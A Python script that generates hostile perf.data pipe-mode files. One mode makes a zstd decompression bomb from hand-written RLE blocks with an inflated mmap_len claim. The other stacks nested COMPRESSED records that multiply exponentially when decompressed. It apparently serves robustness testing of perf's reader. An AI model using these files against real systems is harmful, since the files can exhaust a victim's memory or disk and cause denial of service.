#!/usr/bin/env python3
"""mkzbomb.py - hostile pipe-mode perf.data files with COMPRESSED records.

    mkzbomb.py bomb OUT BYTE MIB [MMAP_LEN]
        one COMPRESSED record whose zstd data (a frame of RLE blocks, 4
        bytes each) inflates to MIB MiB of BYTE, under a HEADER_COMPRESSED
        feature claiming MMAP_LEN (default 0xffffffff).  BYTE 0x08 makes
        records perf would take as unknown ones (type 0x08080808, 2056
        bytes each), so the stream is valid until its size.
    mkzbomb.py nested OUT DEPTH COPIES
        a COMPRESSED record whose data is COPIES COMPRESSED records whose
        data is ... DEPTH levels down to FINISHED_ROUND records: a reader
        that decompresses nested records meets COPIES^DEPTH of them (the
        levels are compressed with libzstd through ctypes, so the file
        stays small).

The bomb's zstd frame is written by hand (RLE blocks).  Usage errors exit
64.
"""
import ctypes
import ctypes.util
import struct
import sys

PD_REC_FINISHED_ROUND = 68
PD_REC_HEADER_FEATURE = 80
PD_REC_COMPRESSED = 81
PD_FEAT_COMPRESSED = 27
BLOCK_MAX = 128 << 10


def pipe_header():
    return b"PERFILE2" + struct.pack("<Q", 16)


def record(rtype, payload, misc=0):
    size = 8 + len(payload)
    if size > 0xffff:
        raise ValueError("record of %d bytes" % size)
    return struct.pack("<IHH", rtype, misc, size) + payload


def feature_compressed(mmap_len):
    # u64 feature id, then version, type (1 = zstd), level, ratio, mmap_len
    return record(PD_REC_HEADER_FEATURE,
                  struct.pack("<QIIIII", PD_FEAT_COMPRESSED, 0, 1, 1, 100,
                              mmap_len) + b"\0" * 4)


def frame_start():
    # magic; descriptor 0: no checksum, no content size, window descriptor
    # follows; window 2^17 bytes (exponent 7), enough for 128 KiB blocks
    return struct.pack("<IBB", 0xFD2FB528, 0, 7 << 3)


def block_header(last, btype, size):
    return struct.pack("<I", (size << 3) | (btype << 1) | last)[:3]


def rle_frame(byte, nbytes):
    out = bytearray(frame_start())
    while nbytes > 0:
        n = min(nbytes, BLOCK_MAX)
        nbytes -= n
        out += block_header(1 if nbytes == 0 else 0, 1, n) + bytes([byte])
    return bytes(out)


def bomb(byte, mib, mmap_len):
    frame = rle_frame(byte, mib << 20)
    return pipe_header() + feature_compressed(mmap_len) + \
        record(PD_REC_COMPRESSED, frame)


def zcompress(data):
    z = ctypes.CDLL(ctypes.util.find_library("zstd") or "libzstd.so.1")
    z.ZSTD_compress.restype = ctypes.c_size_t
    z.ZSTD_compress.argtypes = [ctypes.c_void_p, ctypes.c_size_t,
                                ctypes.c_void_p, ctypes.c_size_t,
                                ctypes.c_int]
    z.ZSTD_isError.argtypes = [ctypes.c_size_t]
    cap = len(data) + 1024
    dst = ctypes.create_string_buffer(cap)
    n = z.ZSTD_compress(dst, cap, data, len(data), 19)
    if z.ZSTD_isError(n):
        raise ValueError("zstd compression failed")
    return dst.raw[:n]


def nested(depth, copies):
    inner = record(PD_REC_FINISHED_ROUND, b"")
    for _ in range(depth):
        inner = record(PD_REC_COMPRESSED, zcompress(inner * copies))
    return pipe_header() + feature_compressed(528384) + inner


def main(argv):
    try:
        if len(argv) in (4, 5) and argv[0] == "bomb":
            data = bomb(int(argv[2], 0), int(argv[3], 0),
                        int(argv[4], 0) if len(argv) == 5 else 0xffffffff)
        elif len(argv) == 4 and argv[0] == "nested":
            data = nested(int(argv[2], 0), int(argv[3], 0))
        else:
            raise ValueError("bad arguments")
    except ValueError as e:
        sys.stderr.write("mkzbomb.py: %s\n%s" % (e, __doc__))
        return 64
    with open(argv[1], "wb") as f:
        f.write(data)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
